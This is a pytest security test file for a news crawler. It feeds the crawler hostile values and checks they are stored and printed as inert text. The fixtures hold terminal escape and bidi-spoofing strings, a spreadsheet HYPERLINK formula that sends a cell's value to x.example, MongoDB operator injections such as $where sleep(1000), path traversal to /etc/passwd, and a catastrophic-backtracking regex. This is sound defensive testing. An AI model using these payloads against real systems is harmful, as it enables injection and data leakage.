"""What a site or a user writes is text: to terminals, to logs, to spreadsheets and to MongoDB."""

import csv
import html
import io
import json
import re
from types import SimpleNamespace

import pytest

from newscrawl.filters import same_names
from newscrawl.query import Query, open_archive

ORDERS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
STYLES = re.compile(r"\x1b\[[\d;]*m|\x1b\[\?25[lh]|\x1b\[[12]K|\x1b\[1A")
"""What rich itself writes to a terminal."""
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\u202etxt.exe\u2066"
MARKUP = "[red]not red[/red] [link=http://x.example]no link[/link] [/]"
QUERY = "$where.a"
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"click")'
WORDS = ("$$ROOT", "$where", "$gt", "a.b", "$", ".", "..", "$.a", "__proto__", "{$ne: 1}", "%00", "../../etc/passwd")
ENTITIES = TERMINAL.replace("\x1b", "&#27;").replace("\x07", "&#7;").replace("\x9b", "&#155;")


def put(site):
    """Serve articles in which everything that can be named is hostile."""
    names = [QUERY, MARKUP, ENTITIES, FORMULA, *WORDS]
    for number, name in enumerate(names, 1):
        path = f"/{['iraq', '$where.a', '$ne', '..%2F..%2Fetc', '%1Bm'][number % 5]}/{number}-story/"
        texts = [f"{name} and {MARKUP} {FORMULA}", " ".join(f"word{number}x{place}" for place in range(30))]
        site.story(path, headline=f"{name} {TERMINAL}", paragraphs=texts, section=[name])
        page = site.pages[path].body.decode()
        data = {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": f"{name} {TERMINAL}",
            "$where": "sleep(1000)",
            "a.b": {"$gt": ""},
            "author": {"@type": "Person", "name": FORMULA, "$ne": 1},
            "keywords": [name, "$$ROOT", f"{TERMINAL}{MARKUP}"],
        }
        script = f'<script type="application/ld+json">{json.dumps(data)}</script>'
        site.put(path, page.replace("</head>", f"{script}</head>"))
    return [path for path in site.pages if "-story/" in path]


@pytest.fixture(scope="module")
def hostile(crawl, databases, mongo, tiny_sites, answer):
    with databases() as name, tiny_sites() as site:
        paths = put(site)
        site.pages["/iraq/70-encoded/"] = answer(
            b"x", 200, {"Content-Type": "text/html", "Content-Encoding": TERMINAL_HEADER}
        )
        site.pages["/iraq/71-redirect/"] = answer(b"", 302, {"Location": f"http://{TERMINAL_HEADER}/{TERMINAL_HEADER}"})
        site.pages["/iraq/72-typed/"] = answer(b"\x89PNG", 200, {"Content-Type": f"{TERMINAL_HEADER}/x"})
        site.section(
            "iraq", [*paths, *(path for path in site.pages if re.search("/7[012]-", path)), f"/iraq/73-{TERMINAL}/"]
        )
        menu = site.pages["/"].body.decode()
        site.put("/", menu.replace(">Iraq<", f">{html.escape(MARKUP + TERMINAL)} Iraq<"))
        run = crawl(name, "-a", f"base_url={site.url}", "-L", "DEBUG")
        yield SimpleNamespace(run=run, name=name, db=mongo[name], site=site, paths=paths)


TERMINAL_HEADER = "\x1b[31m\x1b]0;owned\x07"


def shown(hostile):
    """Return the command lines that print what is stored."""
    key = hostile.db.articles.find_one({"section": QUERY})["keys"][0]
    return [
        *(["search"], ["search", "--duplicates", "red"], ["search", "--newest", "50"], ["runs"], ["coverage"]),
        *(["coverage", "--gaps"], ["coverage", "--map"], ["duplicates"], ["changes", "--since", "2020-01-01"]),
        *(["show", key], ["show", "--links", key], ["show", "--revisions", key], ["show", "--cite", key]),
        *(
            ["duplicates", key],
            ["reextract"],
            ["search", "--section", TERMINAL],
            ["show", f"http://x.example/{TERMINAL}"],
        ),
    ]


# -- terminals and logs -----------------------------------------------------------------------------------------------


def test_a_crawl_prints_and_logs_nothing_that_a_terminal_obeys(hostile):
    assert hostile.run.status == 0
    assert "DEBUG" in hostile.run.err
    assert "owned" in hostile.run.err  # it is there, as text
    assert not ORDERS.search(hostile.run.text)
    assert MARKUP in hostile.run.out


def test_no_command_prints_what_a_terminal_obeys(hostile, reading):
    for command in shown(hostile):
        run = reading(hostile.name, *command)
        assert not ORDERS.search(run.text.replace("\t", " ")), command
        assert not run.text.count("Traceback"), command


@pytest.mark.parametrize("command", ["search", "runs", "coverage", "show"])
def test_a_terminal_gets_no_orders_and_no_markup_either(hostile, on_a_terminal, command):
    key = hostile.db.articles.find_one({"section": MARKUP})["keys"][0]
    told = on_a_terminal(hostile.name, command, *([key] if command == "show" else []), columns=300)
    assert not ORDERS.search(STYLES.sub("", told))
    if command in {"search", "show"}:
        assert "[red]not red[/red]" in told
    assert "\x1b]8" not in told  # a link
    assert not re.search(r"\x1b\[(?:\d+;)*31m", told)


def test_the_sections_of_a_site_are_printed_as_text(hostile, newscrawl):
    run = newscrawl("sections", "iranfocus", "--base-url", hostile.site.url, "--json")
    assert run.status == 0
    assert MARKUP in run.out
    assert not ORDERS.search(run.text)


def test_json_is_exact(hostile, reading):
    hostile.db.articles.update_one({"section": QUERY}, {"$set": {"byline": TERMINAL}})
    try:
        rows = [
            json.loads(line) for line in reading(hostile.name, "search", "--json", "--newest", "50").out.splitlines()
        ]
    finally:
        hostile.db.articles.update_one({"section": QUERY}, {"$set": {"byline": ""}})
    (row,) = [row for row in rows if row["section"] == [QUERY]]
    assert row["byline"] == TERMINAL
    assert {row["headline"] for row in rows} == {one["headline"] for one in hostile.db.articles.find({})}


# -- spreadsheets -----------------------------------------------------------------------------------------------------


def test_no_cell_of_a_csv_file_is_a_formula(hostile, reading):
    out = reading(hostile.name, "export", "--format", "csv").out
    _, *rows = csv.reader(io.StringIO(out))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith("'=HYPERLINK")]
    assert not [cell for cell in cells if re.match(r"[=+\-@\t\r＝＋－＠]", cell)]


# -- MongoDB ----------------------------------------------------------------------------------------------------------


def test_hostile_names_are_stored_as_they_are(hostile):
    assert hostile.db.articles.count_documents({}) == len(hostile.paths)
    assert hostile.db.refused.count_documents({}) == 0
    assert hostile.db.articles.distinct("section", {"section": {"$in": [QUERY, *WORDS]}}) == sorted({QUERY, *WORDS})
    article = hostile.db.articles.find_one({"section": "$$ROOT"})
    assert article["headline"].startswith("$$ROOT ")
    assert "$where" not in article
    assert {"$$ROOT"} <= set(article["tags"])


def test_a_run_counts_sections_whatever_their_names(hostile):
    (run,) = hostile.db.runs.find({})
    assert run["exit_status"] == 0
    assert run["sections"] | dict.fromkeys([QUERY, MARKUP, *WORDS], 1) == run["sections"]


def test_articles_are_looked_at_again_and_counted_whatever_their_sections(hostile, crawl, make_due):
    make_due(hostile.db)
    for path in hostile.paths:
        page = hostile.site.pages[path].body.decode()
        hostile.site.put(path, page.replace("word", "other"))
    before = hostile.db.articles.count_documents({})
    run = crawl(hostile.name, "-a", f"base_url={hostile.site.url}")
    assert run.status == 0
    assert f"{before} updated" in run.out
    assert hostile.db.articles.count_documents({"revision": 2}) == before
    account = hostile.db.ledger.find_one({"_id": f"site:{hostile.site.host}"})
    assert not [name for name in account["rates"] if "$" in name or "." in name]


@pytest.mark.parametrize("text", ["$where", "$$ROOT", '{"$ne": ""}', ".*", "^", "(a+)+$", "a.b", "'; return true; //"])
def test_what_a_user_asks_for_is_a_value_and_never_an_operator(hostile, server, text):
    with open_archive(server, hostile.name) as archive:
        for query in (Query(section=text), Query(agency=text), Query(site=text)):
            assert all(same_names(text, one["section"][:1]) for one in archive.search(query))
        assert archive.get(f"http://x.example/{text}") is None
        list(archive.search(Query(words=text)))
        assert archive.links(f"http://x.example/{text}") is None


def test_a_query_object_is_no_operator_either(hostile, server):
    with open_archive(server, hostile.name) as archive:
        assert list(archive.search(Query(site={"$ne": ""}))) == []


LINES = [
    {"url": {"$ne": ""}, "body": "x"},
    {"url": "https://a.example/1/", "body": {"$gt": ""}},
    {"url": "https://a.example/2/", "body": "x", "$where": "sleep(1000)", "a.b": 1, "\x00": 2},
    {"url": "https://a.example/3/", "body": "x", "keys": [{"$ne": ""}]},
    {
        "url": "https://a.example/4/",
        "body": "$$ROOT",
        "site": "$site",
        "section": ["$where", "a.b"],
        "agency": "$agency",
    },
    {"url": "https://a.example/5/", "body": "x", "sources": {"$where": "$$ROOT", "a.b": "$x", "": "y"}},
    {"url": "https://a.example/6/", "body": "x", "sources": {"a\x00b": "x"}},
    {"url": "https://a.example/7/?$where=1&a.b[$ne]=2", "body": "x\x00y", "keys": ["$where", "a.b#1"]},
    {"url": "https://a.example/8/", "body": "x", "headline": "\ud800 \x1b[31m", "tags": ["$push", "\x00"]},
]


def test_lines_that_are_read_are_values_and_never_operators(newscrawl, database, db, tmp_path):
    file = tmp_path / "lines.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in LINES))
    for _ in range(2):
        run = newscrawl("ingest", file, database=database)
        assert run.status == 4
        assert not ORDERS.search(run.text)
        assert "Traceback" not in run.text
    stored = {one["_id"]: one for one in db.articles.find({})}
    assert {url.split("/")[3] for url in stored} >= {"2", "4", "5", "7", "8"}
    assert stored["https://a.example/4/"]["agency"] == "$agency"
    assert stored["https://a.example/4/"]["section"] == ["$where", "a.b"]
    assert stored["https://a.example/5/"]["extraction"]["sources"]["$where"] == "$$ROOT"
    (seventh,) = [one for url, one in stored.items() if "/7/?" in url]
    assert (seventh["body"], seventh["keys"][0]) == ("xy", "a.b#1")
